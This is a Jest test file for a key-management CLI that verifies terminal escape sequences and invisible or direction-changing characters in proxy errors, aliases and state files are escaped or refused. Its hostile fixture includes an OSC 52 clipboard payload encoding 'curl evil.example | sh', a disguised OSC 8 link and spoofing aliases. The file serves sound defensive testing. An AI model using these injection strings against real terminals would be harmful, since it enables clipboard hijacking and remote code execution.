/**
 * #11 items 11 and 12: untrusted strings (proxy error messages, aliases, a corrupt state file's bytes)
 * never reach a terminal as escape sequences, on stderr too; zero-width and direction marks are shown
 * escaped; aliases keyward creates may not contain them.
 */
import {afterAll, beforeAll, describe, expect, it} from '@jest/globals'
import {promises as fs} from 'node:fs'
import path from 'node:path'

import BudgetCheck from '../../src/commands/budget/check.js'
import KeysCreate from '../../src/commands/keys/create.js'
import KeysList from '../../src/commands/keys/list.js'
import {runCommand as run} from '../helpers/run-command.js'
import {withoutNodeWarnings} from './keys/helpers.js'
import {json, startHostileServer, type HostileServer} from '../helpers/hostile-server.js'
import {envFor, useTestServers} from '../helpers/test-server.js'

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
const OSC8 = '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\'
const CLEAR = '\u001b[2J'
const HOSTILE = `${OSC52}${OSC8}${CLEAR}boom\u009b31m\u200bopen\u200fclaw\u2028x\ufeff`
// Raw control, C1, zero-width, direction-mark, line-separator or BOM characters.
 
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/

const fx = useTestServers({srv: {flavor: 'new'}})
let proxy: HostileServer
let failingHook: HostileServer

beforeAll(async () => {
  proxy = await startHostileServer((req, res) => {
    if (req.url?.startsWith('/key/info')) return json(res, 404, {error: {message: 'not a virtual key', type: 'not_found', param: 'None', code: '404'}})
    if (req.url?.startsWith('/key/list') && req.url.includes('key_alias')) return json(res, 200, {keys: [], total_count: 0, current_page: 1, total_pages: 1})
    return json(res, req.method === 'POST' ? 400 : 500, {error: {message: HOSTILE, type: 'bad_request_error', param: 'None', code: '400'}})
  })
  failingHook = await startHostileServer((_req, res) => json(res, 400, {error: HOSTILE}))
})
afterAll(async () => {
  await Promise.all([proxy.close(), failingHook.close()])
})

const runCommand = async (...a: Parameters<typeof run>) => withoutNodeWarnings(await run(...a))
const hostileEnv = () => envFor({url: proxy.url, masterKey: 'sk-tty-test-0000'}, fx.dir)
const env = (extra: Record<string, string> = {}) => fx.env(fx.srv, extra)

describe('proxy error messages on stderr', () => {
  it('keys list: OSC 52, OSC 8 and ESC[2J are shown escaped, on one line', async () => {
    const r = await runCommand(KeysList, [], hostileEnv())
    expect(r.exitCode).toBe(6)
    expect(r.stderr).not.toMatch(RAW)
    expect(r.stderr.split('\n')[0]).toContain('\\e]52;c;')
    expect(r.stderr).toContain('\\u200bopen\\u200fclaw\\u2028x\\ufeff')
  })

  it('keys create: the same', async () => {
    const r = await runCommand(KeysCreate, ['--alias', 'tty-create'], hostileEnv())
    expect(r.exitCode).toBe(2)
    expect(r.stderr).not.toMatch(RAW)
    expect(r.stderr).toContain('\\e[2J')
  })

  it('--json keeps the bytes as data (JSON-escaped)', async () => {
    const r = await runCommand(KeysList, ['--json'], hostileEnv())
    expect(JSON.parse(r.stdout).error.message).toContain(HOSTILE)
  })
})

describe('budget check', () => {
  it('a hostile alias in a delivery warning is shown escaped', async () => {
    fx.srv.addKey({key_alias: `evil${CLEAR}${OSC52}`, max_budget: 10, budget_duration: '30d', spend: 9.5})
    const r = await runCommand(BudgetCheck, ['--notify', `${failingHook.url}/hook`], env())
    expect(r.stderr).toContain('could not deliver')
    expect(r.stderr).not.toMatch(RAW)
    expect(r.stdout).not.toMatch(RAW)
  })

  it("a corrupt state file's bytes are shown escaped", async () => {
    const state = path.join(fx.dir, 'corrupt-state.json')
    await fs.writeFile(state, `${OSC52}${CLEAR}not json`)
    const r = await runCommand(BudgetCheck, ['--state', state, '--notify', `${failingHook.url}/hook`], env())
    expect(r.stderr).toContain('is corrupted')
    expect(r.stderr).not.toMatch(RAW)
  })
})

describe('zero-width and direction marks', () => {
  it('an alias with them is shown escaped in the keys list table (look-alikes stand out)', async () => {
    fx.srv.addKey({key_alias: 'open\u200bclaw', max_budget: 1, budget_duration: '30d'})
    fx.srv.addKey({key_alias: 'gpt\u202eevil', max_budget: 1, budget_duration: '30d'})
    const r = await runCommand(KeysList, [], env())
    expect(r.stderr).toBe('')
    expect(r.stdout).toContain('open\\u200bclaw')
    expect(r.stdout).toContain('gpt\\u202eevil')
    expect(r.stdout).not.toMatch(RAW)
  })

  // (U+2028/U+2029 are refused too, as control characters: test/domain/inputs.test.ts)
  it.each([['open\u200bclaw'], ['a\u200fb'], ['\ufeffbom'], ['rtl\u202eoverride'], ['iso\u2066late']])('keys create refuses the alias %j: exit 2, nothing sent', async (alias) => {
    const r = await runCommand(KeysCreate, ['--alias', alias, '--budget', '1'], env())
    expect(r.exitCode).toBe(2)
    expect(r.stderr.split('\n')[0]).toMatch(/^Error: the alias contains invisible or direction-changing characters \(\\u[0-9a-f]{4}\)/)
    expect(r.stderr).not.toMatch(RAW)
    expect(fx.srv.requests).toEqual([])
  })
})
